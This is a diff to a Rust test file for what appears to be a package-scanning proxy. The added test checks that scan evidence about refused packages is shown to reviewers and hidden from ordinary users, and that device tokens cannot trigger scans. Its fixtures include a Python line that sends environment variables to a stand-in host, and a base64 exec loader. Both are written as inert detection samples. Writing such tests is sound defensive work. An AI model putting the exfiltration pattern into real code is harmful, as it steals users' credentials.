@@ -2,9 +2,9 @@
 
 use std::time::Duration;
 
-use fanlight_testkit::{Advisory, Clients, Fault, Release, State, Upstream, get, wait_for};
-use fanlight_tests::{listed, record_of, records_of};
-use serde_json::Value;
+use fanlight_testkit::{Advisory, Clients, Fault, Release, Request, State, Upstream, get, wait_for};
+use fanlight_tests::{Browser, listed, record_of, records_of};
+use serde_json::{Value, json};
 
 /// Reads as theft and does nothing: no variable of that name is ever set, and nobody imports it here.
 const THEFT: &str = "import os, urllib.request\nif os.environ.get('NEVER_SET_ANYWHERE'):\n    urllib.request.urlopen('http://c.example.invalid', data=str(os.environ).encode())\n";
@@ -85,6 +85,41 @@ fn a_release_is_looked_into_by_the_node_also_where_it_is_refused_and_no_byte_of_
     upstream.fault("/files/broken/broken-1.0-py3-none-any.whl", Fault::Status(500));
     scan(&["pkg:pypi/broken@1.0"]).exits(3).says("broken-1.0-py3-none-any.whl could not be had");
     assert_eq!(records_of(&state, "packages:upstream-fault").len(), 1);
+}
+
+#[test]
+fn what_is_refused_is_quoted_to_who_judges_it_and_to_nobody_else() {
+    let upstream = Upstream::with([
+        Release::new("eager", "1.0").with_code(THEFT),
+        Release::new("fresh", "1.0")
+            .seconds_old(3600)
+            .with_code("exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"),
+    ]);
+    let state = State::before(&upstream, "");
+    let node = state.start();
+    let _asha = Browser::first_steward(&state, &node, "asha");
+    let (ben, cleo) =
+        (Browser::invited(&state, &node, "ben", None), Browser::invited(&state, &node, "cleo", Some("reviewer")));
+    let quotes = |who: &Browser, purl: &str| -> Vec<String> {
+        let answer = who.post("scan", &json!({ "purl": purl })).is(200);
+        let lines =
+            answer.text().lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON")).collect::<Vec<_>>();
+        let findings = lines.iter().find_map(|line| line["report"]["findings"].as_array()).expect("findings");
+        assert!(!findings.is_empty(), "{lines:?}");
+        findings.iter().map(|found| found["evidence"].as_str().expect("evidence").to_owned()).collect()
+    };
+    for purl in ["pkg:pypi/eager@1.0", "pkg:pypi/fresh@1.0"] {
+        assert!(quotes(&cleo, purl).iter().any(|quote| !quote.is_empty()), "{purl} is reviewed");
+        // Held by now: for its age, or for what the scan has just found.
+        assert!(quotes(&ben, purl).iter().all(String::is_empty), "{purl} is held");
+    }
+    // A device token gives the node no work.
+    state.cli(&["use", "pip"]).ok();
+    let settings = std::fs::read_to_string(state.home().join(".config/pip/pip.conf")).expect("settings");
+    let start = settings.find("flk_").expect("a token");
+    let token: String = settings[start..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+    let ask = Request::new("POST", &format!("{}/v1/scan", node.url())).body("{\"purl\": \"pkg:pypi/eager@1.0\"}");
+    ask.header("Authorization", &format!("Bearer {token}")).send().is(403).says("gives it no work");
 }
 
 #[test]
